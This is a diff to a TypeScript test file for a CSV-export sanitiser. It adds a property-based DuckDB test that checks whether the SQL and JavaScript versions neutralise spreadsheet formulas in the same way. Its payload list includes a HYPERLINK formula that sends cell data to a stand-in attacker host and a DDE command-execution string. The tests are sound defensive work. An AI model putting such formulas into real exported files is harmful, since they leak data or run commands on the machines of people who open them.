@@ -1,7 +1,9 @@
+import { DuckDBInstance } from '@duckdb/node-api';
+import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { figureCsv } from '../../src/lib/figure.ts';
 import { toCsv } from '../../src/lib/result-export.ts';
-import { spreadsheetSafe } from '../../src/lib/spreadsheet-safe.ts';
+import { spreadsheetSafe, spreadsheetSafeSql } from '../../src/lib/spreadsheet-safe.ts';
 
 const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Xã Một")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', '\tX', '\rX'];
 
@@ -37,5 +39,28 @@ describe('CSV for spreadsheets never runs a formula from data (OWASP)', () => {
       },
     });
     expect(csv).toBe("name,v,illustrative,source\r\n'@x,-4,true,'=evil()\r\n");
+  });
+});
+
+describe('the same rule in the SQL that writes the published CSV', () => {
+  it('neutralises exactly the text the rule in the site does, and keeps the rows in order', async () => {
+    const conn = await (await DuckDBInstance.create(':memory:', { threads: '2' })).connect();
+    const texts = fc.oneof(fc.string({ unit: 'binary', maxLength: 6 }), fc.constantFrom(...HOSTILE, '', '=', '\u0301=', 'x'));
+    await fc.assert(
+      fc.asyncProperty(fc.array(fc.option(texts), { maxLength: 30 }), async (values) => {
+        await conn.run('CREATE OR REPLACE TABLE cells (k INTEGER, "a ""b" VARCHAR)');
+        const appender = await conn.createAppender('cells');
+        values.forEach((v, k) => {
+          appender.appendInteger(k);
+          if (v == null) appender.appendNull();
+          else appender.appendVarchar(v);
+          appender.endRow();
+        });
+        appender.closeSync();
+        const read = await conn.runAndReadAll(`SELECT ${spreadsheetSafeSql('a "b')} FROM cells`);
+        expect(read.getColumnsJS()[0] ?? []).toEqual(values.map((v) => (v == null ? null : spreadsheetSafe(v))));
+      }),
+      { numRuns: 200 },
+    );
   });
 });
